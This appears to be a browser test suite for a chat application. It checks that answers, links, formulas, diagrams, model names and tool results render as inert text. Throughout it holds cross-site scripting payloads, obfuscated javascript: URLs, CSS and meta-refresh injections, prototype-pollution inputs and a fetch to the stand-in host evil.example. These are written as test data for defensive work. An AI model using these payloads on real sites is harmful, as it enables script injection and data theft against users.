// Answers, names and titles that try to run a script, to reach another host, or to change the page.

import { afterAll, beforeAll, expect, test } from 'bun:test'
import { type OpenPage, TestPages } from './page.testing.ts'

let pages: TestPages
beforeAll(async () => {
	pages = await TestPages.open({ models: ['<img src=x onerror=window.ran=1>'] })
}, 60_000)
afterAll(() => pages[Symbol.asyncDispose]())

interface Watched {
	/** To other hosts. */
	readonly requests: readonly string[]
	readonly dialogs: readonly string[]
	/** Frames in which a hostile script ran. */
	ran(): Promise<readonly string[]>
}

async function watch({ page }: OpenPage): Promise<Watched> {
	const requests: string[] = []
	const dialogs: string[] = []
	const isForeign = (url: string) => !url.startsWith(pages.server.url) && !/^(data:image|blob)/.test(url)
	page.context().on('response', (response) => {
		if (isForeign(response.url())) requests.push(response.url())
	})
	// The browser names those, too, that a policy stopped before they were sent.
	page.context().on('requestfailed', (request) => {
		if (isForeign(request.url()) && request.failure()?.errorText !== 'csp') requests.push(request.url())
	})
	page.on('dialog', (dialog) => {
		dialogs.push(dialog.message())
		void dialog.dismiss()
	})
	return {
		requests,
		dialogs,
		ran: async () => {
			const results = await Promise.all(page.frames().map((frame) => frame.evaluate('window.ran === undefined')))
			return page.frames().flatMap((frame, index) => (results[index] === true ? [] : [frame.url()]))
		},
	}
}

async function expectSafe(opened: OpenPage, watched: Watched): Promise<void> {
	await opened.page.evaluate('new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))')
	expect(await watched.ran()).toEqual([])
	expect(watched.requests).toEqual([])
	expect(watched.dialogs).toEqual([])
	// Nothing in the conversation has a handler, an address that runs, or content of another host.
	const found = await opened.page.evaluate(() =>
		[...document.querySelectorAll('body *')].flatMap((element) => {
			const { attributes, tagName } = element
			const bad = [...attributes].filter(
				({ name, value }) =>
					name.startsWith('on') ||
					(/^(href|src|action|xlink:href)$/.test(name) && /^\s*(javascript|vbscript|data:text)/i.test(value)),
			)
			return bad.length > 0 || /^(SCRIPT|OBJECT|EMBED|STYLE|FORM\[action\])$/.test(tagName) ? [element.outerHTML] : []
		}),
	)
	expect(found).toEqual([])
	expect(opened.errors).toEqual([])
}

const payload = 'window.ran=1;fetch(`https://evil.example/`)'

const markup = [
	`<script>${payload}</script>`,
	`<img src=x onerror="${payload}">`,
	`<svg><script>${payload}</script><animate onbegin="${payload}" attributeName=x dur=1s></svg>`,
	`<iframe srcdoc="<script>${payload}</script>"></iframe>`,
	'<style>@import "https://evil.example/x.css";</style><link rel=stylesheet href=https://evil.example/x.css>',
	'<form action="https://evil.example/"><button>go</button></form><base href="https://evil.example/">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example/">',
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${payload}&gt;">`,
	'<details open ontoggle=window.ran=1><summary>x</summary></details>',
]

const addresses = [
	'javascript:window.ran=1',
	'JaVaScRiPt:window.ran=1',
	'&#106;avascript:window.ran=1',
	'java&#x09;script:window.ran=1',
	'java&Tab;script:window.ran=1',
	'\u0001javascript:window.ran=1',
	'vbscript:window.ran=1',
	'data:text/html,<script>window.ran=1</script>',
	'data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=',
	'blob:https://evil.example/1',
	'file:///etc/passwd',
	'javascript\u200b:window.ran=1',
	'//evil.example/',
	'ｊavascript:window.ran=1',
	'%6Aavascript:window.ran=1',
]

test('HTML, addresses and pictures in answers are text, and stay so after a reload', async () => {
	const opened = await pages.openPage()
	const { page } = opened
	const watched = await watch(opened)
	await opened.ask(`echo:say ${markup.join('\n\n')}\n\nInline ${markup.join(' ')}`)
	expect(await page.locator('.answer').last().textContent()).toContain('<script>')
	await expectSafe(opened, watched)
	const links = addresses.map((address, index) => `[a${index}](<${address}>) [r${index}] <${address}> ![i](${address})`)
	const definitions = addresses.map((address, index) => `[r${index}]: <${address}>`)
	await opened.ask(`echo:say ${links.join('\n\n')}\n\n${definitions.join('\n')}`)
	const hrefs = await page
		.locator('.answer a')
		.evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).href))
	expect(hrefs.filter((href) => !href.startsWith('https://') && !href.startsWith('http://'))).toEqual([])
	await expectSafe(opened, watched)
	await opened.ask(
		`echo:say ![x](https://evil.example/?q=secret "t") [![y](https://evil.example/y.png)](https://evil.example/)\n\n![z][p]\n\n[p]: https://evil.example/z.png\n\n[__proto__] [constructor] [toString][]\n\n[__proto__]: javascript:window.ran=1\n[constructor]: https://ok.example\n\n| __proto__ | constructor |\n|---|---|\n| <img src=x onerror=window.ran=1> | [x](javascript:window.ran=1) |`,
	)
	await page.locator('.answer a[href="https://ok.example/"]').waitFor()
	for (const name of [
		'__proto__',
		'constructor',
		'"><img src=x onerror=window.ran=1>',
		'javascript:window.ran=1',
		'x'.repeat(500),
	])
		await opened.ask(`echo:say \`\`\`${name}\n<img src=x onerror=window.ran=1>\n\`\`\``)
	expect(await page.locator('.answer').last().locator('pre').textContent()).toContain('<img src=x')
	await expectSafe(opened, watched)
	await page.reload()
	await page.locator('.answer pre').last().waitFor()
	await expectSafe(opened, watched)
}, 60_000)

test('formulas cannot link, load, style without bound or expand without end', async () => {
	const opened = await pages.openPage()
	const { page } = opened
	const watched = await watch(opened)
	await opened.ask(
		`echo:say ${[
			'\\href{javascript:window.ran=1}{x}',
			'\\url{javascript:window.ran=1}',
			'\\includegraphics{https://evil.example/x.png}',
			'\\htmlData{onclick=window.ran=1}{x}',
			'\\htmlStyle{background: url(https://evil.example/)}{x}',
			'\\htmlClass{composer}{x}',
			'\\def\\a{\\a\\a}\\a',
			`${'\\def\\a#1{#1#1#1#1#1#1#1#1#1#1}'}\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}`,
			'\\rule{100000em}{100000em}',
			'<img src=x onerror=window.ran=1>',
			'\\text{</span><script>window.ran=1</script>}',
			`${'{'.repeat(2000)}x`,
			'\\__proto__ \\constructor \\toString',
		]
			.map((tex) => `$$${tex}$$`)
			.join('\n\n')}\n\nEnd $x$`,
	)
	await page.locator('.answer .katex').last().waitFor()
	expect(await page.locator('.answer :is(a, img)').count()).toBe(0)
	expect(await page.locator('.answer .composer').count()).toBe(0)
	const widest = await page.evaluate('document.documentElement.scrollWidth')
	expect(widest).toBe(page.viewportSize()?.width)
	await expectSafe(opened, watched)
}, 60_000)

test('diagrams cannot run, load or link anything', async () => {
	const opened = await pages.openPage()
	const { page } = opened
	const watched = await watch(opened)
	const diagrams = [
		'graph TD; A[x] --> B\nclick A "javascript:window.ran=1"\nclick B call run()',
		`%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\ngraph TD; A["<img src=x onerror='window.ran=1'>"] --> B["<script>window.ran=1</script>"]`,
		'%%{init: {"themeCSS": "* { background: url(https://evil.example/x) } @import url(https://evil.example/y.css);", "fontFamily": "x; } @import url(https://evil.example/z.css)"}}%%\ngraph TD; A --> B',
		'graph TD; A --> B\nstyle A fill:url(https://evil.example/f)\nclassDef c background:url(https://evil.example/g)\nclass B c',
		'graph TD\n  A@{ img: "https://evil.example/i.png", label: "x", w: 60, h: 60 } --> B',
		'---\nconfig:\n  securityLevel: loose\n  __proto__:\n    ran: 1\n---\nsequenceDiagram\n  participant A as <svg onload=window.ran=1>\n  A->>A: <iframe src=https://evil.example/>\n  link A: x @ javascript:window.ran=1',
	]
	await opened.ask(`echo:say ${diagrams.map((code) => `\`\`\`mermaid\n${code}\n\`\`\``).join('\n\n')}`)
	// Each is drawn, or shown as its code.
	for (const index of diagrams.keys()) {
		const diagram = page.locator('.answer .diagram').nth(index)
		await diagram.scrollIntoViewIfNeeded()
		await diagram.locator('img, .small-note').first().waitFor()
	}
	// A picture has a size before it is decoded.
	await page
		.locator('.diagram img')
		.evaluateAll((all) => Promise.allSettled(all.map((image) => (image as HTMLImageElement).decode())))
	const widths = await page
		.locator('.diagram img')
		.evaluateAll((all) => all.map((image) => (image as HTMLImageElement).naturalWidth))
	expect(widths.length).toBeGreaterThan(2)
	expect(Math.min(...widths)).toBeGreaterThan(0)
	expect(await watched.ran()).toEqual([])
	expect(watched.requests).toEqual([])
	const frame = page.frames().find((other) => other.url().endsWith('/page/diagram'))
	const parent = await frame?.evaluate(`(() => { try { return parent.document.title } catch { return 'blocked' } })()`)
	expect(parent).toBe('blocked')
}, 60_000)

test('names of models, titles, tools and refusals are text', async () => {
	const opened = await pages.openPage()
	const { page } = opened
	const watched = await watch(opened)
	await page.locator('.model-button').click()
	await page.getByRole('menuitemradio').filter({ hasText: '<img' }).click()
	await opened.ask('<img src=x onerror=window.ran=1> {{constructor}} "><script>window.ran=1</script>')
	expect(await page.locator('.answer .speaker').textContent()).toContain('<img src=x')
	await page.waitForFunction(() => document.title.includes('<img src=x onerror'))
	await opened.ask('echo:refuse <img src=x onerror=window.ran=1>')
	// A refusal that streams is not read piece by piece.
	expect(await page.locator('.answer .notice').last().getAttribute('role')).toBeNull()
	await opened.ask('echo:reasoning <img src=x onerror=window.ran=1>\necho:say x')
	await opened.ask('echo:tool constructor {"__proto__": {"ran": 1}, "x": "</code><img src=x onerror=window.ran=1>"}')
	await page.getByRole('textbox', { name: 'Result of constructor' }).fill('<img src=x onerror=window.ran=1>')
	await page.getByRole('button', { name: 'Answer the call' }).click()
	await page.locator('.tool-results').waitFor()
	await opened.answered()
	await expectSafe(opened, watched)
}, 60_000)
